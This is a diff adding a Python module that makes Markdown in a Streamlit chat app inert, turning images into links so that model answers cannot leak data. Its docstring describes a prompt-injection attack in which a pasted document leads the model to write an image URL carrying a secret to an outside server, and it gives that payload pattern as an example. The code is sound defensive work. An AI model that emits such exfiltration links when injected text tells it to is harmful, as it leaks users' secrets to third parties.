@@ -1,0 +1,86 @@
+"""Text shown through Markdown without loading anything from elsewhere.
+
+Streamlit renders Markdown (messages, and also button labels, titles and captions), and a
+Markdown image makes the viewer's browser fetch its address. A model answer that was told
+(by a pasted document, say) to write `![x](https://anywhere/?d=<secret>)` would send the
+secret to that server: the classic exfiltration channel of prompt injection. So:
+
+- messages keep their Markdown, but every image becomes a link (`inert_markdown`): nothing
+  is fetched unless the reader clicks, and the page says why the image is not shown;
+- labels (titles, names) are plain text (`plain`): no Markdown at all.
+
+The Content-Security-Policy (chat/web/headers.py) is the second line: even an image that
+slipped through is not loaded from another origin.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable, Iterator
+
+IMAGES_AS_LINKS_NOTE = (
+    "Images from other sites are shown as links, not loaded: loading one would tell that "
+    "site what you are reading."
+)
+_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|~<>$:=&])")
+_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
+_INLINE_CODE = re.compile(r"(`+)(?!`).*?(?<!`)\1(?!`)", re.DOTALL)
+_IMAGE_START = re.compile(r"!(?=\[)")
+
+
+def plain(text: str) -> str:
+    """Stored text shown literally where Streamlit reads Markdown (button labels, titles,
+    captions): no formatting, links or images, whitespace runs as one space."""
+    return _MARKDOWN_SPECIAL.sub(r"\\\1", " ".join(text.split()))
+
+
+def _unimage(text: str) -> str:
+    """`![alt](url)` becomes `!\\[alt](url)`: a "!" and then a link, outside code spans
+    (where Markdown draws no image and a backslash would show)."""
+    out: list[str] = []
+    last = 0
+    for code in _INLINE_CODE.finditer(text):
+        out.append(_IMAGE_START.sub("!\\\\", text[last : code.start()]))
+        out.append(code.group(0))
+        last = code.end()
+    out.append(_IMAGE_START.sub("!\\\\", text[last:]))
+    return "".join(out)
+
+
+def inert_markdown(text: str) -> tuple[str, bool]:
+    """The text as Markdown in which no image loads, and whether any image was turned into
+    a link. Fenced code blocks are left as they are (Markdown draws no image in them)."""
+    out: list[str] = []
+    prose: list[str] = []
+    fence: str | None = None
+    for line in text.splitlines(keepends=True):
+        marker = _FENCE.match(line)
+        if fence is None and marker:
+            out.append(_unimage("".join(prose)))
+            prose = []
+            fence = marker.group(1)[0] * len(marker.group(1))
+            out.append(line)
+        elif fence is not None:
+            out.append(line)
+            if marker and marker.group(1).startswith(fence):
+                fence = None
+        else:
+            prose.append(line)
+    out.append(_unimage("".join(prose)))
+    rendered = "".join(out)
+    return rendered, rendered != text
+
+
+def inert_stream(chunks: Iterable[str]) -> Iterator[str]:
+    """Streamed Markdown with every image start escaped as it arrives (code included: the
+    stored answer is drawn again, code-aware, once the stream ends). A chunk ending in "!"
+    is held back until the next one shows whether a "[" follows."""
+    pending = ""
+    for chunk in chunks:
+        text = pending + chunk
+        pending = "!" if text.endswith("!") else ""
+        text = text[:-1] if pending else text
+        if text:
+            yield _IMAGE_START.sub("!\\\\", text)
+    if pending:
+        yield pending
